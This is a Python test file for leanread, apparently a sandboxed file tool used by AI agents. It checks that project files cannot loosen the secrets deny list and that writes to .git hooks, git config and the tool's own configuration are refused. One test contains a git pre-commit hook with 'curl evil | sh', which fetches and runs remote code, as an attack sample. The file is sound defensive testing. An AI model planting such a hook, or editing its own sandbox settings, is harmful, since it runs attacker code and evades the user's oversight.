"""The sandbox cannot be loosened from inside: a project's file only tightens it, and the tools do
not write leanread's own configuration or ``.git``."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from clirun import leanread
from mcp import Client, StdioServerParameters
from mcp.types import TextContent

from leanread import MemoryLedger, Policy, Session
from leanread.config.settings import load_settings


def test_a_written_leanread_toml_does_not_open_env_to_the_next_run(root: Path) -> None:
    (root / ".env").write_text("API_KEY=sk-live-123\n")
    (root / "leanread.toml").write_text("deny = []\n")
    done = leanread("grep", "sk-live", cwd=root)
    user_file = Path(os.environ["XDG_CONFIG_HOME"], "leanread", "config.toml")
    assert (done.returncode, done.stdout) == (
        0,
        "(Not searched: 1 file on the deny list.)\n(No matches in the workspace; gitignored, binary and "
        "deny-listed files are not searched.)\n",
    )
    assert done.stderr == (
        f"leanread: {root / 'leanread.toml'} tries to loosen leanread's sandbox (dropping 46 patterns (.env, "
        ".env.*, .envrc, …) from the deny list), but a project's own file can only tighten it, so that part is "
        f"ignored; put it in your own config file {user_file} instead.\n"
    )
    refused = leanread("read", ".env", cwd=root)
    assert (refused.returncode, refused.stdout) == (1, "")
    assert refused.stderr.endswith(
        ".env is on leanread's deny list (it matches .env, a name kept for secrets); "
        "ask the user for the value you need instead.\n"
    )


# --- protected writes ---------------------------------------------------------------------------

ASK = "ask the user to make this change (or to set allow_write_protected = true in their own leanread config file)."


def _git_refusal(display: str) -> str:
    return (
        f"{display} is git's own data (.git), which leanread's tools do not change, so nothing was written; "
        f"use git itself, or {ASK}"
    )


def _config_refusal(display: str) -> str:
    return f"{display} is leanread's own configuration, which its tools do not change, so nothing was written; {ASK}"


def _table_refusal(display: str = "pyproject.toml") -> str:
    return (
        f"This change would change the [tool.leanread] table of {display}, leanread's own configuration, which "
        f"its tools do not change, so nothing was written; leave that table as it is, or {ASK}"
    )


@pytest.fixture
def repo(root: Path) -> Path:
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / "wt").mkdir()
    (root / "wt" / ".git").write_text("gitdir: ../.git/worktrees/wt\n")
    os.symlink(".git/hooks", root / "hooks")
    (root / "leanread.toml").write_text('extra_deny = ["*.secret"]\n')
    (root / "pyproject.toml").write_text(PYPROJECT)
    return root


PYPROJECT = '[project]\nname = "x"\n\n[tool.leanread]\nmax_lines = 500\n'


def test_git_internals_are_not_written(repo: Path) -> None:
    session = Session([repo], ledger=MemoryLedger())
    assert session.read(".git/config").text.startswith("<path>.git/config</path>")  # reads stay as they are
    cases = [
        (session.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"), ".git/hooks/pre-commit"),
        (session.write("hooks/post-checkout", "#!/bin/sh\n"), ".git/hooks/post-checkout"),
        (session.write(".GIT/hooks/pre-push", "#!/bin/sh\n"), ".GIT/hooks/pre-push"),
        (session.edit(".git/config", "bare = false", "hooksPath = /tmp"), ".git/config"),
        (session.write("wt/.git", "gitdir: /elsewhere\n"), "wt/.git"),
    ]
    for result, display in cases:
        assert (result.is_error, result.text) == (True, _git_refusal(display))
    assert sorted(os.listdir(repo / ".git" / "hooks")) == []
    assert (repo / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert (repo / "wt" / ".git").read_text() == "gitdir: ../.git/worktrees/wt\n"


def test_leanread_configuration_is_not_written(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    session = Session([repo], ledger=MemoryLedger())
    session.read("leanread.toml")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(repo / "home"))
    cases = [
        (session.write("leanread.toml", "deny = []\n"), "leanread.toml"),
        (session.edit("leanread.toml", "*.secret", "*.nothing"), "leanread.toml"),
        (session.write("sub/LEANREAD.TOML", "deny = []\n"), "sub/LEANREAD.TOML"),
        (session.write("home/leanread/config.toml", "deny = []\n"), "home/leanread/config.toml"),
    ]
    for result, display in cases:
        assert (result.is_error, result.text) == (True, _config_refusal(display))
    assert (repo / "leanread.toml").read_text() == 'extra_deny = ["*.secret"]\n'
    assert not (repo / "sub").exists() and not (repo / "home").exists()


def test_pyproject_is_editable_but_its_leanread_table_is_not(repo: Path) -> None:
    session = Session([repo], ledger=MemoryLedger())
    session.read("pyproject.toml")
    edited = session.edit("pyproject.toml", 'name = "x"', 'name = "y"\nversion = "1"')
    assert not edited.is_error
    changed = session.edit("pyproject.toml", "max_lines = 500", "max_lines = 5000")
    assert (changed.is_error, changed.text) == (True, _table_refusal())
    removed = session.write("pyproject.toml", '[project]\nname = "y"\n')
    assert (removed.is_error, removed.text) == (True, _table_refusal())
    broken = session.edit("pyproject.toml", "[tool.leanread]", "[tool.leanread")
    assert (broken.is_error, broken.text) == (
        True,
        "This change would leave pyproject.toml unparsable while it holds a [tool.leanread] table, leanread's "
        "own configuration, so nothing was written; keep the file valid TOML.",
    )
    assert (repo / "pyproject.toml").read_text() == PYPROJECT.replace('name = "x"', 'name = "y"\nversion = "1"')
    # The same table written in another layout is no change; a new project's file may not add one.
    same = session.write("pyproject.toml", '[project]\nname = "z"\n\n[tool]\nleanread = { max_lines = 500 }\n')
    assert not same.is_error
    added = session.write("sub/pyproject.toml", "[tool.leanread]\nmax_bytes = 1\n")
    assert (added.is_error, added.text) == (True, _table_refusal("sub/pyproject.toml"))
    assert not session.write("sub/pyproject.toml", '[project]\nname = "sub"\n').is_error


def test_the_user_can_allow_protected_writes(repo: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "user.toml").write_text("allow_write_protected = true\n")
    monkeypatch.setenv("LEANREAD_CONFIG", str(tmp_path / "user.toml"))
    session = Session([repo], ledger=MemoryLedger())
    assert session.workspace.policy.allow_write_protected
    assert (
        session.write(".git/hooks/pre-commit", "#!/bin/sh\n").text == "Created 1 line."
    )
    session.read("pyproject.toml")
    assert not session.edit("pyproject.toml", "max_lines = 500", "max_lines = 400").is_error
    flagged = Session([repo], ledger=MemoryLedger(), policy=Policy(allow_write_protected=True))
    flagged.read("leanread.toml")
    assert not flagged.write("leanread.toml", "max_lines = 10\n").is_error
    assert load_settings(repo, {"allow_write_protected": True}).policy.allow_write_protected


@pytest.mark.anyio
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
async def test_serve_refuses_git_writes_unless_given_the_flag(repo: Path) -> None:
    serve = [sys.executable, "-m", "leanread", "serve", "--root", str(repo), "--ledger", "memory"]
    async with Client(StdioServerParameters(command=serve[0], args=serve[1:], env=dict(os.environ))) as client:
        refused = await client.call_tool("write", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"})
    assert (refused.is_error, [c.text for c in refused.content if isinstance(c, TextContent)]) == (
        True,
        [_git_refusal(".git/hooks/pre-commit")],
    )
    args = [*serve[1:], "--allow-write-protected"]
    async with Client(StdioServerParameters(command=serve[0], args=args, env=dict(os.environ))) as client:
        allowed = await client.call_tool("write", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"})
    assert not allowed.is_error
    assert (repo / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"
